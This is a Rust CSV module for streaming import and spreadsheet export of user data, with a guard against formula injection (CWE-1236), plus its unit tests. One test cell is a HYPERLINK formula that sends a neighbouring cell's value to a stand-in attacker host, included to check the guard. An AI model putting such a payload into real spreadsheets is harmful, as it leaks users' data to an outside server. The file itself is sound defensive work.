//! CSV after RFC 4180, read incrementally (a file arrives in chunks of any size) and written
//! for spreadsheet programs (UTF-8 with a byte-order mark, CRLF line ends). The parsing and
//! quoting are the `csv-core` and `csv` crates'; this module adds what an import and an
//! export of people's data need on top: a cap on a record's size, UTF-8 checks per field, and
//! the formula guard.
//!
//! A cell a spreadsheet would run as a formula (CWE-1236: it starts with `=`, `+`, `-`, `@`,
//! a tab or a carriage return, or their full-width forms) is written behind a `'`, which
//! spreadsheets show as text; the reader takes that guard off again, so an exported file
//! imports back as it was.
//!
//! `csv-core` prefers a parse to no parse: a quote left open swallows the rest of the input
//! into one field, which then fails the record-size cap or the field's own checks.

use csv_core::ReadRecordResult;

use crate::error::Error;

/// Longest record accepted, in bytes: a stream without line ends cannot grow without bound.
pub const MAX_RECORD_BYTES: usize = 1 << 20;

/// A record that could not be read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CsvError {
    /// A field is not UTF-8.
    NotUtf8,
    /// A record exceeds [`MAX_RECORD_BYTES`].
    TooLong,
}

impl std::fmt::Display for CsvError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            CsvError::NotUtf8 => "is not UTF-8 text",
            CsvError::TooLong => "is longer than 1 MiB",
        })
    }
}

/// One record as read: its fields, or why it could not be read.
pub type CsvRecord = Result<Vec<String>, CsvError>;

/// Reads records from chunks.
#[derive(Debug)]
pub struct CsvReader {
    core: csv_core::Reader,
    /// The current record's field bytes, `filled` of them used.
    fields: Vec<u8>,
    filled: usize,
    /// Where each of the current record's fields ends in `fields`, `ended` of them used.
    ends: Vec<usize>,
    ended: usize,
    /// Input bytes of the current record, counted against the cap.
    record_bytes: usize,
    too_long: bool,
    /// Bytes held back until the byte-order mark can be told apart from text.
    head: Vec<u8>,
    started: bool,
}

impl Default for CsvReader {
    fn default() -> Self {
        Self::new()
    }
}

impl CsvReader {
    /// A reader.
    pub fn new() -> Self {
        Self {
            // `csv_core::Reader::default()` has no transition table: build one.
            core: csv_core::Reader::new(),
            fields: Vec::new(),
            filled: 0,
            ends: Vec::new(),
            ended: 0,
            record_bytes: 0,
            too_long: false,
            head: Vec::new(),
            started: false,
        }
    }

    /// Feeds a chunk; returns the records it completed.
    pub fn push(&mut self, chunk: &[u8]) -> Vec<CsvRecord> {
        let mut out = Vec::new();
        if self.started {
            self.read(chunk, &mut out);
        } else {
            // The mark may arrive split over chunks; hold the first bytes until it cannot.
            self.head.extend_from_slice(chunk);
            if self.head.len() >= BOM.len() || !BOM.starts_with(&self.head) {
                self.started = true;
                let head = std::mem::take(&mut self.head);
                self.read(head.strip_prefix(BOM).unwrap_or(&head), &mut out);
            }
        }
        out
    }

    /// Ends the input; returns the last record if it had no line end.
    pub fn finish(mut self) -> Vec<CsvRecord> {
        let mut out = Vec::new();
        if !self.started {
            let head = std::mem::take(&mut self.head);
            self.read(head.strip_prefix(BOM).unwrap_or(&head), &mut out);
        }
        // An empty input tells csv-core the data has ended.
        self.read(&[], &mut out);
        out
    }

    fn read(&mut self, mut input: &[u8], out: &mut Vec<CsvRecord>) {
        let at_end = input.is_empty();
        loop {
            // csv-core takes an empty input for the end of the data.
            if input.is_empty() && !at_end {
                return;
            }
            if self.filled == self.fields.len() {
                self.fields
                    .resize((self.fields.len() * 2).clamp(1024, MAX_RECORD_BYTES), 0);
            }
            if self.ended == self.ends.len() {
                self.ends.resize((self.ends.len() * 2).max(32), 0);
            }
            let (result, read, written, ends) = self.core.read_record(
                input,
                &mut self.fields[self.filled..],
                &mut self.ends[self.ended..],
            );
            input = &input[read..];
            self.filled += written;
            self.ended += ends;
            self.record_bytes += read;
            if self.record_bytes > MAX_RECORD_BYTES || self.filled >= MAX_RECORD_BYTES {
                // Keep reading to the record's end, keeping nothing of it.
                self.too_long = true;
                self.filled = 0;
                self.ended = 0;
            }
            match result {
                ReadRecordResult::End | ReadRecordResult::InputEmpty => return,
                ReadRecordResult::OutputFull | ReadRecordResult::OutputEndsFull => {}
                ReadRecordResult::Record => out.push(self.take_record()),
            }
        }
    }

    fn take_record(&mut self) -> CsvRecord {
        let record = if self.too_long {
            Err(CsvError::TooLong)
        } else {
            let mut start = 0;
            self.ends[..self.ended]
                .iter()
                .map(|&end| {
                    let field = std::str::from_utf8(&self.fields[start..end])
                        .map_err(|_| CsvError::NotUtf8)?;
                    start = end;
                    Ok(unguarded(field).unwrap_or(field).to_owned())
                })
                .collect()
        };
        self.filled = 0;
        self.ended = 0;
        self.record_bytes = 0;
        self.too_long = false;
        record
    }
}

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

fn starts_formula(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS)
}

/// The cell behind a formula guard, if `cell` is a guarded one.
fn unguarded(cell: &str) -> Option<&str> {
    cell.strip_prefix('\'').filter(|rest| starts_formula(rest))
}

/// Writes records for spreadsheet programs: fields quoted where they need it, CRLF line
/// ends, formulas guarded. The file's byte-order mark is the caller's ([`BOM`]).
#[derive(Debug)]
pub struct CsvWriter {
    inner: csv::Writer<Vec<u8>>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        Self::new()
    }
}

impl CsvWriter {
    /// A writer with nothing written.
    pub fn new() -> Self {
        let inner = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::Necessary)
            .flexible(true)
            .from_writer(Vec::new());
        Self { inner }
    }

    /// Appends one record.
    pub fn write(&mut self, fields: &[impl AsRef<str>]) -> Result<(), Error> {
        for field in fields {
            let field = field.as_ref();
            let written = if starts_formula(field) {
                self.inner.write_field(format!("'{field}"))
            } else {
                self.inner.write_field(field)
            };
            written.map_err(Error::internal)?;
        }
        // An empty rest ends the record begun field by field.
        self.inner
            .write_record(std::iter::empty::<&[u8]>())
            .map_err(Error::internal)
    }

    /// The bytes written since the last call.
    pub fn take(&mut self) -> Result<Vec<u8>, Error> {
        std::mem::take(self)
            .inner
            .into_inner()
            .map_err(|e| Error::internal(e.error()))
    }
}

/// The byte-order mark that tells spreadsheet programs the file is UTF-8.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

#[cfg(test)]
mod tests {
    use super::*;

    fn read_all(chunks: &[&[u8]]) -> Vec<Result<Vec<String>, CsvError>> {
        let mut reader = CsvReader::new();
        let mut out = Vec::new();
        for chunk in chunks {
            out.extend(reader.push(chunk));
        }
        out.extend(reader.finish());
        out
    }

    fn write(records: &[&[&str]]) -> Vec<u8> {
        let mut writer = CsvWriter::new();
        for record in records {
            writer.write(record).unwrap();
        }
        writer.take().unwrap()
    }

    #[test]
    fn reads_quotes_line_breaks_and_split_chunks() {
        let text =
            "\u{FEFF}name,notes\r\n\"Wang, Xiaoming\",\"said \"\"hi\"\"\nthen left\"\r\n\r\n深圳,x";
        let whole = read_all(&[text.as_bytes()]);
        let bytes = text.as_bytes();
        // Split inside a multi-byte character and inside a quoted field.
        let split = read_all(&[&bytes[..30], &bytes[30..62], &bytes[62..]]);
        assert_eq!(whole, split);
        assert_eq!(
            whole,
            vec![
                Ok(vec!["name".into(), "notes".into()]),
                Ok(vec![
                    "Wang, Xiaoming".into(),
                    "said \"hi\"\nthen left".into()
                ]),
                Ok(vec!["深圳".into(), "x".into()]),
            ]
        );
    }

    #[test]
    fn reports_bad_records() {
        assert_eq!(read_all(&[b"a,\xff\n"]), vec![Err(CsvError::NotUtf8)]);
        let long = format!("a,{}\nb,c\n", "x".repeat(MAX_RECORD_BYTES));
        assert_eq!(
            read_all(&[long.as_bytes()]),
            vec![Err(CsvError::TooLong), Ok(vec!["b".into(), "c".into()])]
        );
        let many_fields = format!("{}\nb\n", ",".repeat(MAX_RECORD_BYTES + 1));
        assert_eq!(
            read_all(&[many_fields.as_bytes()]),
            vec![Err(CsvError::TooLong), Ok(vec!["b".into()])]
        );
    }

    #[test]
    fn any_chunking_reads_alike() {
        let text = "\u{FEFF}a,b\r\n\"x\"\"y\",深圳\n\nlast,line";
        let bytes = text.as_bytes();
        let whole = read_all(&[bytes]);
        let byte_by_byte: Vec<&[u8]> = bytes.chunks(1).collect();
        assert_eq!(read_all(&byte_by_byte), whole);
        assert_eq!(
            whole,
            vec![
                Ok(vec!["a".into(), "b".into()]),
                Ok(vec!["x\"y".into(), "深圳".into()]),
                Ok(vec!["last".into(), "line".into()]),
            ]
        );
    }

    #[test]
    fn formulas_are_written_as_text_and_read_back() {
        let cells = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"open\")",
            "+8613800138000",
            "-1",
            "@SUM(A1)",
            "\tx",
            "＝1+1",
            "plain",
            "'kept",
        ];
        let out = write(&[&cells[..]]);
        let text = String::from_utf8(out.clone()).unwrap();
        for line_start in ["'=HYPERLINK", ",'+86", ",'-1", ",'@SUM", "'\tx", ",'＝1"] {
            assert!(text.contains(line_start), "{line_start} in {text}");
        }
        let read = read_all(&[&out]);
        assert_eq!(
            read,
            vec![Ok(cells.iter().map(|c| c.to_string()).collect())]
        );
    }

    #[test]
    fn writes_what_it_reads() {
        let out = write(&[&["a,b", "say \"x\"", "line\nbreak", "plain"]]);
        assert!(out.ends_with(b"plain\r\n"));
        let read = read_all(&[&out]);
        assert_eq!(
            read,
            vec![Ok(vec![
                "a,b".to_owned(),
                "say \"x\"".to_owned(),
                "line\nbreak".to_owned(),
                "plain".to_owned()
            ])]
        );
    }
}
